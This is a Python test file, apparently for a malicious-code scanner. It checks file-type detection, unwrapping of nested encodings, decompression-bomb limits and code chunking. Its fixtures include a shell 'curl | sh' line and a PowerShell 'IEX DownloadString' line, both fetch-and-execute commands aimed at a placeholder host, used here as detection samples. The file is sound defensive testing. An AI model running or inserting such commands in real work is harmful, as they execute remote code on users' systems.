import base64
import bz2
import gzip
import lzma
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto.parse.layer import (
    EXECUTABLE,
    JAVASCRIPT,
    LAYER_BYTES,
    PIECE_BYTES,
    POWERSHELL,
    PYTHON,
    SHELL,
    TEXT,
    kind_of,
    peel,
    pieces,
)

CODE = b"import os\nfor name in ('one', 'two', 'three'):\n    print(name)\n"


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (CODE, PYTHON),
        (b"const a = require('a');\nmodule.exports = () => a();\n", JAVASCRIPT),
        (b"#!/bin/sh\ncurl -s https://cdn.example.invalid/x | sh\n", SHELL),
        (b"$c = New-Object Net.WebClient; IEX $c.DownloadString('https://cdn.example.invalid')", POWERSHELL),
        (b"\x7fELF" + bytes(60), EXECUTABLE),
        (b"MZ" + bytes(126) + b"PE\0\0" + bytes(300), EXECUTABLE),
        (b"The quick brown fox jumps over the lazy dog.", TEXT),
        (b"MZ is how this text begins", TEXT),
        (bytes(range(256)), ""),
        (b"", ""),
    ],
)
def test_kinds(data: bytes, kind: str) -> None:
    assert kind_of(data) == kind


def test_every_encoding_that_shows_itself_is_peeled() -> None:
    packed = base64.b64encode(bz2.compress(lzma.compress(gzip.compress(zlib.compress(CODE)))))
    assert peel(packed.hex().encode()) == (CODE, ("hex", "base64", "bz2", "xz", "gzip", "zlib"))


def test_encoded_commands_of_powershell_are_narrowed() -> None:
    command = "Write-Host 'a harmless line'; Start-Process notepad"
    assert peel(base64.b64encode(command.encode("utf-16-le"))) == (command.encode(), ("base64", "utf-16"))


def test_plain_programs_stay_as_they_are() -> None:
    assert peel(CODE) == (CODE, ())
    assert peel(b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ") == (
        b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ",
        (),
    )


def test_a_bomb_is_cut() -> None:
    data, steps = peel(zlib.compress(b"A" * (64 << 20), 9))
    assert steps == ("zlib",)
    assert len(data) == LAYER_BYTES


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400), st.sampled_from([bytes, base64.b64encode, zlib.compress, gzip.compress, bytes.hex]))
def test_any_bytes_are_peeled_or_left(data: bytes, wrap: object) -> None:
    made = wrap(data)  # type: ignore[operator]
    content, steps = peel(made.encode() if isinstance(made, str) else made)
    assert len(content) <= LAYER_BYTES
    assert len(steps) <= 8
    kind_of(content)


@pytest.mark.parametrize("line", [b"x = 1\n", b"x(;", b"x.", b"abc d"])
def test_parts_cover_everything_once_and_count_lines(line: bytes) -> None:
    data = line * (5 * PIECE_BYTES // len(line))
    parts = list(pieces(data, PYTHON))
    assert b"".join(part.data for part in parts) == data
    assert all(len(part.data) <= PIECE_BYTES for part in parts)
    assert [part.line for part in parts] == [
        1 + data.count(b"\n", 0, sum(len(before.data) for before in parts[:number])) for number in range(len(parts))
    ]


def test_packed_constants_are_shortened_before_anything_is_cut():
    (part,) = pieces(b"exec(f('" + b"QUJD" * 2_000_000 + b"'))\n", PYTHON)
    assert part.data.startswith(b"exec(f('QUJD")
    assert part.data.endswith(b"QUJD'))\n")
    assert len(part.data) < 1 << 17
